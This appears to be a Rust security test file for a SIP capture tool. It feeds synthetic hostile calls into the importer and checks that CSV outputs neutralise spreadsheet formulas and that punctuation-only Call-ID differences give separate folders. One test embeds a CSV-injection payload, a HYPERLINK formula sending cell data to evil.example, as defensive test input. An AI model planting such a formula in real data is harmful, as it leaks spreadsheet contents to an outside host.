//! What a sender on the wire can do to the capture side (docs/security.md,
//! "Capture side"): hide a call, exhaust memory or disk, slow the writer,
//! plant spreadsheet formulas. Each test builds the hostile traffic itself
//! and checks the outputs (and tshark's reading of the same capture).

use std::net::Ipv4Addr;
use std::path::Path;

use voxtap_e2e::{import, read_csv, tshark_call_ids};
use voxtap_engine::synth::udp_frame;
use voxtap_proto::pcapio::{LinkType, PcapWriter};

type Ep = (Ipv4Addr, u16);

const ALICE: Ep = (Ipv4Addr::new(10, 0, 0, 1), 5060);
const BOB: Ep = (Ipv4Addr::new(10, 0, 0, 2), 5060);
/// 2026-01-01T00:00:00Z.
const T0: u64 = 1_767_225_600_000_000_000;

/// Writes a capture (Ethernet, UDP) frame by frame, without keeping it.
struct Cap {
    w: PcapWriter<std::io::BufWriter<std::fs::File>>,
    frame: Vec<u8>,
}

impl Cap {
    fn create(path: &Path) -> Self {
        let f = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
        Cap {
            w: PcapWriter::new(f, LinkType::Ethernet, 262_144).unwrap(),
            frame: Vec::new(),
        }
    }

    fn udp(&mut self, ts_ms: u64, src: Ep, dst: Ep, payload: &[u8]) {
        udp_frame(&mut self.frame, src, dst, payload);
        let len = self.frame.len() as u32;
        self.w
            .write_packet(T0 + ts_ms * 1_000_000, len, &self.frame)
            .unwrap();
    }

    fn finish(mut self) {
        self.w.flush().unwrap();
    }
}

/// A SIP message: `start` is "INVITE sip:bob@b" or "200 OK"; `before` are
/// header lines put before every other header; `from_user` names the caller.
fn sip(start: &str, cid: &str, cseq: &str, from_user: &str, before: &str) -> Vec<u8> {
    let line = if start.starts_with(|c: char| c.is_ascii_digit()) {
        format!("SIP/2.0 {start}")
    } else {
        format!("{start} SIP/2.0")
    };
    format!(
        "{line}\r\n{before}Via: SIP/2.0/UDP 10.0.0.1;branch=z9hG4bK{cseq_n}\r\nFrom: <sip:{from_user}@a.example>;tag=1\r\nTo: <sip:bob@b.example>\r\nCall-ID: {cid}\r\nCSeq: {cseq}\r\nContent-Length: 0\r\n\r\n",
        cseq_n = cseq.split(' ').next().unwrap_or("1"),
    )
    .into_bytes()
}

/// INVITE, 200, ACK, BYE, 200 of call `cid`, starting at `t` ms.
fn answered_call(cap: &mut Cap, t: u64, cid: &str, from_user: &str, before: &str) {
    let msgs = [
        (
            ALICE,
            BOB,
            sip(
                "INVITE sip:bob@b.example",
                cid,
                "1 INVITE",
                from_user,
                before,
            ),
        ),
        (
            BOB,
            ALICE,
            sip("200 OK", cid, "1 INVITE", from_user, before),
        ),
        (
            ALICE,
            BOB,
            sip("ACK sip:bob@b.example", cid, "1 ACK", from_user, before),
        ),
        (
            ALICE,
            BOB,
            sip("BYE sip:bob@b.example", cid, "2 BYE", from_user, before),
        ),
        (BOB, ALICE, sip("200 OK", cid, "2 BYE", from_user, before)),
    ];
    for (i, (s, d, m)) in msgs.iter().enumerate() {
        cap.udp(t + i as u64 * 100, *s, *d, m);
    }
}

/// CSV injection: a From user that is a spreadsheet formula is written as
/// text (a leading `'`) in calls.csv; a plain E.164 number is not touched.
#[test]
fn csv_cells_that_are_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("formula.pcap");
    let mut cap = Cap::create(&pcap);
    // No ':', '?' or ';' (they end a URI's user part); CHAR(58) is ':'.
    let evil = "=HYPERLINK(\"http\"&CHAR(58)&\"//evil.example/\"&A1,\"click\")";
    answered_call(&mut cap, 0, "formula-1@h", evil, "");
    answered_call(&mut cap, 1000, "-2+3@h", "+4930123456", "");
    cap.finish();
    let (out, _) = import(&[pcap]);
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), 2, "{calls:?}");
    let c = calls
        .iter()
        .find(|c| c["call_id"] == "formula-1@h")
        .unwrap();
    assert_eq!(c["from"], format!("'{evil}"));
    let c = calls.iter().find(|c| c["call_id"] == "'-2+3@h").unwrap();
    assert_eq!(c["from"], "+4930123456");
    // No cell of any CSV we wrote starts a formula.
    for f in ["calls.csv", "streams.csv", "legs.csv"] {
        for row in read_csv(&out.path().join(f)) {
            for v in row.values() {
                assert!(!v.starts_with(['=', '@', '\t', '\r']), "{f}: {v:?}");
            }
        }
    }
    let _ = tshark_call_ids;
}

/// Call-IDs that differ only in punctuation (all sanitised to `____@h`
/// before) get distinct, stable folders, each found again by everything that
/// looks a call's folder up: calls.csv's pcap path, the index's `folder`,
/// sip.txt, and `voxtap media --call` (engine `media::regenerate`). That the
/// naming is O(1) per call is counted in the engine's unit tests
/// (output::streamed, output::naming).
#[test]
fn call_ids_differing_only_in_punctuation_get_their_own_folders() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("punct.pcap");
    let mut cap = Cap::create(&pcap);
    let p = ['!', '%', '*', '+', '~', '(', ')', '<', '>', '?'];
    let ids: Vec<String> = (0..2000u32)
        .map(|i| {
            let s: String = (0..4)
                .map(|k| p[(i / 10u32.pow(k) % 10) as usize])
                .collect();
            format!("{s}@h")
        })
        .collect();
    for (i, id) in ids.iter().enumerate() {
        let t = i as u64 * 10;
        cap.udp(
            t,
            ALICE,
            BOB,
            &sip("INVITE sip:bob@b.example", id, "1 INVITE", "alice", ""),
        );
        cap.udp(
            t + 5,
            BOB,
            ALICE,
            &sip("486 Busy Here", id, "1 INVITE", "alice", ""),
        );
    }
    cap.finish();
    let (out, _) = import(std::slice::from_ref(&pcap));
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), ids.len());
    let folders: std::collections::BTreeSet<String> = calls
        .iter()
        .map(|c| c["pcap"].trim_end_matches("/call.pcap").to_string())
        .collect();
    assert_eq!(folders.len(), ids.len(), "one folder per call");
    for c in &calls {
        let id = c["call_id"].trim_start_matches('\'');
        let folder = out.path().join(c["pcap"].trim_end_matches("/call.pcap"));
        assert!(folder.starts_with(out.path()) && folder.join("call.pcap").exists());
        let sip = std::fs::read_to_string(folder.join("sip.txt")).unwrap();
        assert!(sip.contains(&format!("Call-ID: {id}\r\n")), "{id}");
        // Readable: the name starts with the sanitised Call-ID.
        let name = folder.file_name().unwrap().to_str().unwrap();
        assert!(name.starts_with("c____@h-"), "{name}");
    }
    // The index names the same folders.
    let index = voxtap_engine::index::Index::open(&out.path().join("index.sqlite")).unwrap();
    let mut indexed = std::collections::BTreeSet::new();
    for page in 0..2u64 {
        let q = voxtap_engine::index::CallQuery {
            limit: 1000,
            offset: page * 1000,
            ..Default::default()
        };
        for r in index.search(&q).unwrap().rows {
            let f = r.folder.unwrap();
            assert_eq!(r.pcap.as_deref(), Some(format!("{f}/call.pcap").as_str()));
            indexed.insert(f);
        }
    }
    assert_eq!(indexed, folders);
    // `voxtap media --call` finds a call by its Call-ID, also as calls.csv
    // shows it when it starts like a formula.
    for id in [ids[7].as_str(), "+!!!@h", "'+!!!@h"] {
        voxtap_engine::media::regenerate(out.path(), id, &Default::default())
            .unwrap_or_else(|e| panic!("{id}: {e}"));
    }
}
